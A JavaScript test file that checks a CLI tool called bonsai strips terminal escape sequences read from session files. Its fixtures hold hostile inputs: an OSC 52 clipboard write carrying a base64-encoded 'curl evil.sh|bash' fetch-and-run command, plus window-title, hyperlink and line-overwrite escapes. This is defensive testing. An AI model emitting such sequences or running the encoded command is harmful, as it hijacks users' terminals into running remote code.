/**
 * Issue 26, defect 6: terminal control sequences from sessions (a clipboard write through OSC 52,
 * a window title, a hyperlink, a carriage return that overwrites the line) must not reach the
 * user's terminal through info, tree, context or label; bonsai's own colors still do.
 */
import assert from "node:assert/strict";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { after, describe, it } from "node:test";
import { terminalSafe } from "../../src/util/terminal-safe.js";
import { runBonsai } from "../helpers/cli.js";
import { assistantEntry, entry, tempDir, userEntry } from "../helpers/session-builders.js";

const temp = tempDir();
after(temp.cleanup);

const OSC52 = "\u001b]52;c;Y3VybCBldmlsLnNofGJhc2g=\u0007";
const TITLE = "\u001b]0;pwned\u001b\\";
const LINK = "\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007";
const HOSTILE = `look ${OSC52}${TITLE}${LINK} here\rOVERWRITE\u0008\u009b2J`;

describe("terminalSafe", () => {
  it("masks every control but newline and tab, and keeps color sequences", () => {
    assert.equal(terminalSafe("a\tb\nc"), "a\tb\nc");
    assert.equal(terminalSafe("\u001b[1mbold\u001b[22m \u001b[38;5;2mgreen\u001b[39m"), "\u001b[1mbold\u001b[22m \u001b[38;5;2mgreen\u001b[39m");
    const safe = terminalSafe(HOSTILE);
    assert.doesNotMatch(safe, /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
    assert.match(safe, /^look \?\]52;c;Y3VybCBldmlsLnNofGJhc2g=\?/);
  });
});

describe("bonsai on a session written to drive the terminal", () => {
  const file = join(temp.dir, "hostile.jsonl");
  writeFileSync(
    file,
    `${[
      { type: "session", version: 3, id: "hostile", timestamp: "2026-01-01T00:00:00.000Z", cwd: "/tmp" },
      userEntry("u1", null, HOSTILE),
      assistantEntry("a1", "u1", `answer ${OSC52}`),
      entry("session_info", "n1", "a1", { name: `name ${TITLE}` }),
    ]
      .map((l) => JSON.stringify(l))
      .join("\n")}\n`,
  );
  for (const args of [["info", file], ["tree", file], ["context", file, "--full"], ["label", file, "u1", `label ${OSC52}`]]) {
    it(`${args[0]} prints no control sequence`, async () => {
      const run = await runBonsai(args);
      assert.equal(run.code, 0, run.stderr);
      assert.doesNotMatch(run.stdout, /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/, JSON.stringify(run.stdout));
      assert.doesNotMatch(run.stderr, /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
    });
  }
});
